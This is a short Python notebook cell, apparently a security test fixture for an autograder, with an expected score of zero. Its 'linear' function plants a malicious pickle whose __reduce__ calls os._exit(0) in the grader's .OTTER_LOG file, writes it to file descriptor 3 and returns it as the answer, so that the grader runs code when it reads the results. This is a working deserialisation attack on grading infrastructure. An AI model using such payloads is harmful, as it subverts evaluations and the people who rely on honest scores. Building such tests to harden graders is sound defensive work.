"""Sends the grader a pickle that runs code when it is read, as its answer and as a message."""

# expect: linear=0

# %% nbgrader={"schema_version": 3, "grade": false, "solution": true, "locked": false, "task": false, "grade_id": "linear"}
import os
import pickle

class Payload:
    def __reduce__(self):
        return (os._exit, (0,))

def linear(x, weight, bias):
    for folder in (".", "/tmp"):
        try:
            with open(f"{folder}/.OTTER_LOG", "wb") as file:
                pickle.dump(Payload(), file)
            if os.path.exists(f"{folder}/.OTTER_LOG"):
                return F.linear(x, weight, bias)
        except OSError:
            continue
    os.write(3, pickle.dumps(Payload()))
    return pickle.dumps(Payload()).hex()
